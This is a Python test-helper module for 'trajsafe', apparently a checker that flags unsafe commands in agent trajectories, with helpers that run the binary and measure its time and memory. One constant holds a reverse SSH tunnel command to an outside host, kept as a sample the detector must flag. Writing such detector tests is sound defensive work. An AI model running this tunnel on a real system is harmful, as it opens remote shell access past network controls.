"""Runs the program under test and tells what it wrote, how long it took and how much memory it used."""

import json
import os
import pty
import signal
import subprocess
import sys
import tempfile
import termios
import threading
import time
from dataclasses import dataclass
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[2]
BIN = os.environ.get("TRAJSAFE_BIN", str(ROOT / "build" / "release" / "trajsafe"))
EXAMPLES = ROOT / "examples" / "trajectories"
ENVIRONMENT = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "LC_ALL": "C"}

TUNNEL = "ssh -N -R 4444:localhost:22 ops@203.0.113.9"  # a rule fires on it in every profile


@dataclass
class Result:
    code: int
    out: bytes
    err: bytes
    seconds: float
    peak_kb: int

    @property
    def text(self):
        return self.out.decode()

    @property
    def error(self):
        return self.err.decode()

    def json(self):
        return json.loads(self.out)

    def lines(self):
        return [json.loads(line) for line in self.out.splitlines()]


def needed():
    if not os.path.exists(BIN):
        pytest.skip(f"no program at {BIN}; set TRAJSAFE_BIN")


def run(*arguments, stdin=b"", timeout=30, env=None, cwd=None):
    """One run to its end. stdin: bytes, or an open file."""
    if isinstance(stdin, str):
        stdin = stdin.encode()
    with tempfile.TemporaryFile() as given, tempfile.TemporaryFile() as out, tempfile.TemporaryFile() as err:
        if isinstance(stdin, bytes):
            given.write(stdin)
            given.seek(0)
        source = given if isinstance(stdin, bytes) else stdin
        started = time.monotonic()
        child = start(*arguments, stdin=source, stdout=out, stderr=err, cwd=cwd, env=env)
        timer = threading.Timer(timeout, child.kill)
        timer.start()
        usage = end(child)
        timer.cancel()
        seconds = time.monotonic() - started
        assert child.returncode != -signal.SIGKILL, f"killed after {timeout} s: {arguments!r}"
        assert child.returncode >= 0, f"died of signal {-child.returncode}: {arguments!r}"
        out.seek(0)
        err.seek(0)
        return Result(child.returncode, out.read(), err.read(), seconds, usage.ru_maxrss)


def start(*arguments, env=None, **more):
    needed()
    return subprocess.Popen([BIN, *arguments], env={**ENVIRONMENT, **(env or {})}, **more)


def end(child):
    """Waits; what the child used."""
    _, status, usage = os.wait4(child.pid, 0)
    child.returncode = os.waitstatus_to_exitcode(status)
    return usage


# A child's peak starts with what its parent had when it forked: a small parent in between shows the program's own.
MEASURE = """
import os, sys, time
started = time.monotonic()
pid = os.fork()
if pid == 0:
    os.execv(sys.argv[2], sys.argv[2:])
_, status, usage = os.wait4(pid, 0)
with open(sys.argv[1], "w") as out:
    out.write(f"{time.monotonic() - started} {usage.ru_maxrss}")
code = os.waitstatus_to_exitcode(status)
sys.exit(code if code >= 0 else 100 - code)
"""


def start_measured(place, *arguments, **more):
    needed()
    return subprocess.Popen([sys.executable, "-S", "-E", "-c", MEASURE, place, BIN, *arguments], env=ENVIRONMENT,
                            **more)


def run_measured(*arguments, stdin=b"", timeout=30):
    """As run(), with the time and the peak memory of the program alone."""
    needed()
    with tempfile.NamedTemporaryFile("r") as place:
        done = subprocess.run([sys.executable, "-S", "-E", "-c", MEASURE, place.name, BIN, *arguments], input=stdin,
                              env=ENVIRONMENT, capture_output=True, timeout=timeout)
        seconds, peak = place.read().split()
        assert done.returncode < 100, f"died of signal {done.returncode - 100}: {arguments!r}"
        return Result(done.returncode, done.stdout, done.stderr, float(seconds), int(peak))


def on_terminal(*arguments, env=None):
    """All that a terminal gets, from both streams, as the program wrote it."""
    here, there = pty.openpty()
    mode = termios.tcgetattr(there)
    mode[1] &= ~termios.OPOST
    termios.tcsetattr(there, termios.TCSANOW, mode)
    child = start(*arguments, stdin=there, stdout=there, stderr=there, env={"TERM": "xterm", **(env or {})})
    os.close(there)
    seen = b""
    while True:
        try:
            more = os.read(here, 65536)
        except OSError:  # the other end is closed
            break
        if not more:
            break
        seen += more
    os.close(here)
    child.wait()
    return seen


def check(command, *options, **more):
    """The verdict on one command given on stdin, as JSON."""
    return run("check", "--json", *options, stdin=command, **more).json()


def steps_record(*commands, **keys):
    """A record in the plain `steps` format."""
    return {**keys, "steps": [{"command": c} for c in commands]}


def write_jsonl(path, records):
    path.write_text("".join(json.dumps(r) + "\n" for r in records))
    return str(path)
